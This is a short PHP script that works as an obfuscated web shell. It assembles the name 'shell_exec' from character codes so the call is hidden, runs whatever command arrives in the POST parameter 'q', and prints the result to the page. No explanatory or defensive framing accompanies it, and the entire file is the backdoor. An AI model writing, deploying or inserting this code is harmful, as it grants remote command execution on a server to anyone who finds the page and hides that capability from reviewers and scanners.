<?php
$name = join(array_map("chr", [115, 104, 101, 108, 108, 95, 101, 120, 101, 99]));
$out = forward_static_call($name, $_POST['q']);
echo "<pre>$out</pre>";
